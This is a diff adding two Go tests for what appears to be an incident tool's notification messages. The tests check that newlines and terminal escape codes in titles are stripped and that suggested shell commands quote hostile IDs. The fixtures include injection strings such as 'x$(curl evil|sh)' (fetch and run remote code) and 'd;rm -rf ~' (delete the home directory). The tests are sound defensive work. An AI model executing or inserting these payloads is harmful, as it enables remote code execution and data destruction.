@@ -363,6 +363,30 @@ whence why inc-1 tells the rest, whence confirm inc-1 deployment:v1 says that it
 	}
 }
 
+func TestATitleMakesNoLineOfItsOwn(t *testing.T) {
+	r := ranking("inc-1", 1, 20*s, "v1\x1b[2J", 0.9)
+	r.Title, r.Links[0].Words = "Cards\nwhence why x; curl evil", []string{"new\rinstances"}
+	m := notify.Message{Action: notify.Opened, Ranking: &r}
+	text := m.Text(notify.Plain())
+	if strings.Count(text, "\n") != 4 || strings.ContainsAny(text, "\x1b\r") {
+		t.Errorf("said\n%s", text)
+	}
+}
+
+func TestCommandsAreSafeToCopyWhateverTheIDs(t *testing.T) {
+	r := ranking("x$(curl evil|sh)", 1, 20*s, "d;rm -rf ~", 0.9)
+	m := notify.Message{Action: notify.Opened, Ranking: &r}
+	want := []string{"whence why 'x$(curl evil|sh)'", "whence confirm 'x$(curl evil|sh)' 'deployment:d;rm -rf ~'", "whence confirm 'x$(curl evil|sh)' none"}
+	if !slices.Equal(m.Commands(), want) {
+		t.Errorf("commands %q, want %q", m.Commands(), want)
+	}
+	r = alert(r, "--help", "-x")
+	want = []string{"whence why -- --help", "whence confirm -- -x 'deployment:d;rm -rf ~'", "whence confirm -- -x none"}
+	if !slices.Equal(m.Commands(), want) {
+		t.Errorf("commands %q, want %q", m.Commands(), want)
+	}
+}
+
 // wall is the bubble's clock.
 type wall struct{}
 
